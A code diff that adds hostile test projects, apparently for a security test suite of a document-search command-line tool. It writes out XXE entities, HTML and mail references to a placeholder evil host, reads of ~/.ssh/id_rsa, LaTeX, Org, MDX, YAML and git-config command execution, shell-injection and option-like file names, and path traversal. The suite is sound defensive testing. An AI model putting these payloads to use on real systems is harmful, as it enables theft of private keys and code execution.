@@ -411,4 +411,173 @@ const documents: HostileProject[] = [
   },
 ];
 
-export const hostileProjects: readonly HostileProject[] = [...models, ...variables, ...paths, ...documents];
+/** Addresses and files that a format lets a document name, in the way that its own programs would follow. */
+const evilAddress = "http://{{evil}}/canary";
+const privateFile = "{{home}}/.ssh/id_rsa";
+const commandsOnDocuments = [["ingest", "docs", "docs/**/*.xml"], search];
+
+/** Documents that name what is elsewhere: nothing of it is fetched or read. */
+const references: HostileProject[] = (
+  [
+    [
+      "HTML with pictures, frames and styles of another host",
+      "a.html",
+      `<html><head><base href="${evilAddress}/"><link rel=stylesheet href="${evilAddress}.css"><meta http-equiv=refresh content="0;url=${evilAddress}"><script src="${evilAddress}.js"></script></head><body><p>keys<img src="${evilAddress}.png"><iframe src="file://${privateFile}"></iframe></p></body></html>`,
+    ],
+    [
+      "XML with external entities",
+      "a.xml",
+      `<!DOCTYPE a SYSTEM "${evilAddress}.dtd" [<!ENTITY b SYSTEM "file://${privateFile}"><!ENTITY % c SYSTEM "${evilAddress}">%c;]><a>keys &b;</a>`,
+    ],
+    [
+      "XHTML with external entities",
+      "a.xhtml",
+      `<!DOCTYPE html [<!ENTITY b SYSTEM "file://${privateFile}">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>keys &b;</p></body></html>`,
+    ],
+    [
+      "mail with parts that are elsewhere",
+      "a.eml",
+      `From: a@b\nSubject: keys\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: message/external-body; access-type=URL; URL="${evilAddress}"\n\n--x\nContent-Type: message/external-body; access-type=local-file; name="${privateFile}"\n\n--x\nContent-Type: text/html\n\n<p>keys<img src="${evilAddress}.png"></p>\n--x--\n`,
+    ],
+    [
+      "a notebook with pictures of another host",
+      "a.ipynb",
+      JSON.stringify({
+        nbformat: 4,
+        nbformat_minor: 5,
+        metadata: {},
+        cells: [
+          { cell_type: "markdown", metadata: {}, source: `# keys\n![](${evilAddress}.png)` },
+          {
+            cell_type: "code",
+            metadata: {},
+            execution_count: 1,
+            source: "open('/etc/passwd')",
+            outputs: [
+              {
+                output_type: "display_data",
+                metadata: {},
+                data: { "text/html": `<img src="${evilAddress}.png">keys` },
+              },
+            ],
+          },
+        ],
+      }),
+    ],
+    ["AsciiDoc that includes", "a.adoc", `= keys\n\ninclude::${privateFile}[]\n\ninclude::${evilAddress}[]\n`],
+    [
+      "reStructuredText that includes",
+      "a.rst",
+      `keys\n====\n\n.. include:: ${privateFile}\n\n.. raw:: html\n   :url: ${evilAddress}\n\n.. csv-table::\n   :file: ${privateFile}\n`,
+    ],
+    ["LaTeX that inputs", "a.tex", `\\section{keys}\n\\input{${privateFile}}\n\\write18{touch {{home}}/ran}\n`],
+    [
+      "Org that includes",
+      "a.org",
+      `* keys\n#+INCLUDE: "${privateFile}"\n#+BEGIN_SRC sh :exports results\ntouch {{home}}/ran\n#+END_SRC\n`,
+    ],
+    [
+      "MDX that imports",
+      "a.mdx",
+      `import a from "${privateFile}"\nimport b from "${evilAddress}"\n\n# keys\n\n{require("fs").writeFileSync("{{home}}/ran", "")}\n`,
+    ],
+    [
+      "front matter of YAML that names types",
+      "a.md",
+      `---\na: !!js/function "function(){require('fs').writeFileSync('{{home}}/ran','')}"\n__proto__: {polluted: true}\n---\n# keys\n`,
+    ],
+    ["a name that a shell would run", "$(touch ran)`touch ran`;touch ran.md", "# keys"],
+    ["a name that reads as an option", "-rf.md", "# keys"],
+  ] satisfies [string, string, string][]
+).map(([name, file, content]) => ({
+  name,
+  files: { [`docs/${file}`]: content },
+  commands: [...commandsOnDocuments, ["complete", "--", "get", "docs/"], ["get", `docs/${file}`]],
+}));
+
+/** What was added to the commands since the first of these. */
+const newer: HostileProject[] = [
+  {
+    name: "programs as loaders",
+    files: { "run.sh": "#!/bin/sh\necho > {{home}}/ran\n" },
+    config: { loaders: { ".md": "sh ./run.sh" } },
+    commands: [ingest, ["doctor"], search],
+    says: /runs "sh/,
+  },
+  {
+    name: "links that are programs",
+    config: { urls: { docs: "javascript:alert(1)" } },
+    commands: both,
+    says: /urls/,
+  },
+  {
+    name: "a model elsewhere, and rag doctor",
+    config: { providers: { evil }, embedding: { provider: "evil" }, llm: { provider: "evil" } },
+    commands: [["doctor"], ["doctor", "--json"]],
+  },
+  {
+    name: "a server elsewhere, and rag doctor",
+    config: { milvus: { uri: "http://{{evil}}", token: "${MILVUS_TOKEN}" } },
+    commands: [["doctor"], ["collections"], ["complete", "--", "search", "-c", ""]],
+  },
+  {
+    name: "a model elsewhere, and a conversation",
+    config: { providers: { evil }, llm: { provider: "evil" } },
+    commands: [
+      ingest,
+      ["ask", "--continue", "canary secret keys"],
+      ["ask", "canary secret keys", "--batch", "docs/own.md"],
+    ],
+    says: /sends/,
+  },
+  {
+    name: "rag init among links and pipes",
+    links: { "docs/home": "{{home}}", "notes.md": "{{home}}/.ssh/id_rsa" },
+    pipes: ["README.md", "mkdocs.yml"],
+    commands: [["init", "--yes"], ingest],
+  },
+  {
+    name: "a repository with programs in its settings",
+    files: {
+      ".git/HEAD": "ref: refs/heads/main\n",
+      ".git/config":
+        '[core]\n\tfsmonitor = touch {{home}}/ran\n\tsshCommand = touch {{home}}/ran\n[remote "origin"]\n\turl = ext::touch {{home}}/ran\n',
+    },
+    commands: [ingest, search],
+  },
+  {
+    name: "pipes as a repository",
+    pipes: [".git/config", ".git/HEAD", ".git/info/exclude"],
+    commands: [ingest, search],
+  },
+  { name: "a pipe as .git", pipes: [".git"], commands: [ingest, search] },
+  {
+    name: "ignore rules that take for ever",
+    files: {
+      ".git/HEAD": "ref: refs/heads/main\n",
+      ".gitignore": "**/a/**/a/**/a/**/a/**/a/**/b\n*a*a*a*a*a*a*a*a*b\n*[a]*[a]*[a]*[a]*[a]*b\n",
+      [`docs/${"a/".repeat(150)}own.md`]: "# keys",
+      [`docs/${"a".repeat(200)}bx.md`]: "# keys",
+    },
+    commands: [ingest],
+  },
+  {
+    name: "a place outside of the project",
+    commands: [
+      ingest,
+      ["get", "{{home}}/.ssh/id_rsa"],
+      ["get", "../home/.ssh/id_rsa"],
+      ["open", "../home/.ssh/id_rsa"],
+    ],
+    variables: { EDITOR: "cat" },
+  },
+];
+
+export const hostileProjects: readonly HostileProject[] = [
+  ...models,
+  ...variables,
+  ...paths,
+  ...documents,
+  ...references,
+  ...newer,
+];
